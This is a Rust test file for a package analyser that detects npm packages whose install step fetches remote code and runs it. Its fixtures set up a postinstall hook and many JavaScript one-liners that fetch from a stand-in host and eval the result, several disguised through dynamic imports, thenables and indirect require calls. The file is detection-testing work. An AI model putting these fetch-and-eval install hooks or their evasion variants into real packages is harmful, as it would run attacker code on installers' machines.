use crate::flow::analyse;
use crate::package::Package;
use crate::unpack::{Tree, text_file as file};
use customs_model::{SinkKind, SourceKind, Zone};

const GO: &str = "() => fetch('https://a.invalid/b').then(r => r.text()).then(eval)";

/// When what comes over the network is run, at the earliest.
fn runs(code: &str) -> Option<Zone> {
    let manifest = r#"{"name": "a", "version": "1.0.0", "scripts": {"postinstall": "node i.js"}}"#;
    let found = analyse(&Package::new(&Tree {
        entries: vec![
            file("package/package.json", manifest),
            file("package/i.js", code),
            file(
                "x.mjs",
                &format!("export const go = {GO};\nexport default go;\n"),
            ),
            file("package/lib/y.js", &format!("({GO})();\n")),
            file("package/lib/linux.js", &format!("({GO})();\n")),
            file("package/linux.js", &format!("({GO})();\n")),
            file("package/d.dat", &format!("({GO})();\n")),
        ],
        ..Tree::default()
    }));
    found
        .flows
        .iter()
        .filter(|flow| flow.source == SourceKind::Remote && flow.sink == SinkKind::DynamicCode)
        .map(|flow| flow.zone)
        .max()
}

#[test]
fn callbacks_get_what_is_known_before_they_run() {
    for code in [
        "import('./x.mjs').then(m => m.go())",
        "import('./x.mjs').then(({ go }) => go())",
        "import('./x.mjs').then(({ default: g }) => g())",
        "const l = { a: () => import('./x.mjs') }; l.a().then(m => m.go())",
        "Promise.all([import('./x.mjs')]).then(() => {}); (async () => { const [m] = await Promise.all([import('./x.mjs')]); m.go() })()",
        "import('https').then(h => h.get('https://a.invalid/b', r => r.on('data', d => eval('' + d))))",
        "import('https').then(({ default: h }) => h.get('https://a.invalid/b', r => r.on('data', d => eval('' + d))))",
        "require('fs').readFile(__dirname + '/d.dat', 'utf8', (e, t) => eval(t))",
        "(async () => { await { then() { import('./x.mjs').then(m => m.go()) } } })()",
        "class C { then(r) { import('./x.mjs').then(m => m.go()); r() } } (async () => { await new C })()",
        "const o = { then(r) { r(import('./x.mjs').then(m => m.go())) } }; (async () => await o)()",
        "require('fs').promises.readFile(__dirname + '/d.dat', 'utf8').then(t => eval(t))",
    ] {
        assert_eq!(runs(code), Some(Zone::Install), "{code}");
    }
}

#[test]
fn a_module_whose_name_is_known_in_part_may_be_each_of_its_folder() {
    for code in [
        "require('./lib/' + (process.argv[2] || 'y'))",
        "require(`./lib/${process.platform}.js`)",
        "require(`./${process.platform}`)",
        "require('fs').readdirSync(__dirname + '/lib').forEach(f => require('./lib/' + f))",
        "const path = require('path'); require('fs').readdirSync(path.join(__dirname, 'lib')).map(f => require(path.join(__dirname, 'lib', f)))",
        "for (const n of ['a', 'y']) require('./lib/' + n)",
    ] {
        assert_eq!(runs(code), Some(Zone::Install), "{code}");
    }
}

#[test]
fn a_module_whose_name_is_not_known_is_none() {
    for code in [
        "require('./' + process.argv[2])",
        "require(process.argv[2])",
        "module.exports = n => require('./lib/' + n)",
        "require('./lib/' + process.argv[2] + '.json')",
        "import('./x.mjs').then(m => m.other())",
        "const o = { then(r) { import('./x.mjs').then(m => m.go()) } }; (async () => await 1)()",
        "import('./x.mjs').then(m => m)",
        "const o = { then(f) {} }; o.then(m => m.go())",
    ] {
        assert!(runs(code) < Some(Zone::Install), "{code}");
    }
}

#[test]
fn what_calls_require_in_a_roundabout_way_loads() {
    for call in [
        "require.call(null, 'https')",
        "require.apply(module, ['https'])",
        "Reflect.apply(require, null, ['https'])",
        "module.parent.require('https')",
        "require('module')._load('https')",
        "module.constructor._load('https')",
        "['https'].map(require)[0]",
    ] {
        let code =
            format!("{call}.get('https://a.invalid/b', r => r.on('data', d => eval('' + d)))");
        assert_eq!(runs(&code), Some(Zone::Install), "{call}");
    }
}
